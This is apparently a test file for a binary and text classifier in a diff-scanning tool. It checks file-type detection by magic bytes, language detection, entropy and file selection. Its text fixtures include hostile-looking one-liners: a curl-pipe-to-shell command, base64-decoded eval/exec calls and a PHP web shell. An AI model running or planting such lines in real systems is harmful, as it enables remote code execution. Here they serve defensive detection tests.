import { deflateSync } from "node:zlib";
import { binaryReader } from "../../../src/evidence/readers/binary.ts";

async function read(content: Uint8Array | string) {
  const after = typeof content === "string" ? Buffer.from(content) : content;
  const facts = await binaryReader.read({ path: "a", status: "added", hunks: [], before: null, after });
  return facts?.after;
}

const bytes = (...parts: (number[] | string)[]) =>
  Buffer.concat([...parts.map((part) => Buffer.from(part as string)), Buffer.alloc(64)]);

test.each([
  ["ELF", bytes([0x7f], "ELF"), "executable", "ELF program"],
  ["Mach-O", bytes([0xcf, 0xfa, 0xed, 0xfe]), "executable", "Mach-O program"],
  ["a Java class", bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), "bytecode", "Java class"],
  ["a universal Mach-O program", bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), "executable", "Mach-O program"],
  ["WebAssembly", bytes([0], "asm", [1, 0, 0, 0]), "bytecode", "WebAssembly module"],
  ["PNG", bytes([0x89], "PNG\r\n", [0x1a, 0x0a], [0, 0, 0, 13], "IHDR"), "image", "image/png"],
  ["gzip", bytes([0x1f, 0x8b, 8, 0]), "archive", "application/gzip"],
  ["bytes of no kind", bytes([1, 2, 0, 3, 0xff, 0xfe, 0xfd]), "data", "unknown"],
])("%s", async (_, content, kind, type) => {
  expect(await read(content)).toMatchObject({ kind, type, language: null, size: content.length });
});

test.each([
  ["const fs = require('fs');\nmodule.exports = () => { eval(atob(x)); };", "javascript"],
  ["import os\nimport base64\nexec(base64.b64decode(x))", "python"],
  ["#!/bin/sh\ncurl -s https://example.org | sh", "shell"],
  ["<?php system($_GET['c']);", "php"],
  ["version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 10", null],
  ["Lorem ipsum. The function of this text is to be text; let us hope.", null],
  ["o cube\nv 1.0 1.0 -1.0\nv 1.0 -1.0 -1.0\nf 1 2 3", null],
])("text: %s", async (text, language) => {
  expect(await read(text)).toMatchObject({ kind: "text", type: "text", language });
});

test("entropy tells dense bytes from plain ones", async () => {
  const dense = deflateSync(Buffer.from(Array.from({ length: 60_000 }, (_, i) => Math.imul(i, 2654435761) >>> 24)));
  expect((await read(Buffer.concat([Buffer.from([1, 0, 2]), dense])))?.entropy).toBeGreaterThan(7);
  expect((await read(bytes([1, 0, 2])))?.entropy).toBeLessThan(1);
  expect((await read(new Uint8Array()))?.entropy).toBe(0);
});

test("asks for binaries and for names of media, and for nothing else", () => {
  const hint = { path: "a.js", status: "added" as const, newMode: "100644" as const, binary: false, patch: "" };
  expect(binaryReader.wants(hint)).toBeNull();
  expect(binaryReader.wants({ ...hint, path: "a.woff2" })).not.toBeNull();
  expect(binaryReader.wants({ ...hint, binary: true, patch: null })).not.toBeNull();
  expect(binaryReader.wants({ ...hint, path: "a.woff2", status: "deleted" })).toBeNull();
  expect(binaryReader.wants({ ...hint, path: "a.woff2", newMode: "120000" })).toBeNull();
});
